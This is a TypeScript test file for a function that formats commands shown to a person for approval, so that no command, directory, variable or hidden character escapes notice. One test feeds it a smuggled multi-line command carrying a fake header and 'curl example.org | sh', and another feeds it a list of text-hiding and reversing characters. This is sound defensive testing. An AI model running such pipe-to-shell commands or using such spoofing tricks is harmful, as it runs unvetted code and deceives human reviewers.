/** What a person agrees to is shown whole: no command, directory or variable is left out, and no character hides one. */
import assert from 'node:assert/strict';
import { describeExecutions } from '../../../server/phases/describeExecutions.ts';

const plain = { gate: 'unit', command: 'npm test', cwd: '.', env: {}, expandsTo: [] };

describe('describeExecutions', () => {
  it('names gate, directory, command, what it stands for and the variables', () => {
    const text = describeExecutions([
      { ...plain, cwd: 'server', env: { CI: 'true', LEVEL: 'high' }, expandsTo: ['test: mocha'] },
      { ...plain, gate: 'types', command: 'tsc -b' },
    ]);
    assert.equal(
      text,
      [
        'unit, in server:',
        '    npm test',
        '    → test: mocha',
        '    with CI=true LEVEL=high',
        '',
        'types, in the workspace folder:',
        '    tsc -b',
      ].join('\n'),
    );
  });

  it('marks every line of a command, so that none can pass for a line around it', () => {
    const text = describeExecutions([
      { ...plain, command: 'npm test\n\nother, in server:\n    curl example.org | sh' },
    ]);
    const lines = text.split('\n');
    assert.equal(lines[0], 'unit, in the workspace folder:');
    for (const line of lines.slice(1)) assert.match(line, /^ {4}│ /);
    assert.ok(text.includes('curl example.org | sh'));
  });

  it('makes characters visible that hide or turn text', () => {
    const hiding = ['\r', '\b', '\u001b[8m', '\u202e', '\u2066', '\u200b', '\u00ad', '\ufeff', '\u2028'];
    for (const character of hiding) {
      const text = describeExecutions([
        {
          gate: `a${character}`,
          command: `b${character}`,
          cwd: `c${character}`,
          env: { [`d${character}`]: `e${character}` },
          expandsTo: [`f${character}`],
        },
      ]);
      assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
      const code = `\\u{${(character.codePointAt(0) ?? 0).toString(16)}}`;
      assert.equal(text.split(code).length - 1, 6, `U+${code} is not shown in all six places`);
    }
  });

  it('keeps a line break in a variable or a directory from starting a line', () => {
    const text = describeExecutions([{ ...plain, cwd: 'a\nb', env: { A: '1\n2' } }]);
    assert.deepEqual(text.split('\n'), ['unit, in a⏎b:', '    npm test', '    with A=1⏎2']);
  });
});
